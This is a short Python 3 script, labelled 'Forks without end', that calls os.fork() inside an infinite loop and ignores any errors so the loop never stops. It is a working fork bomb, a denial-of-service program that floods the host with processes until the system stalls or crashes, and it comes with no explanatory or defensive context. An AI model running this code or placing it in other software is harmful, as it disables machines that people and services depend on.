#!/usr/bin/python3
"""Forks without end."""
import os

while True:
    try:
        os.fork()
    except OSError:
        continue
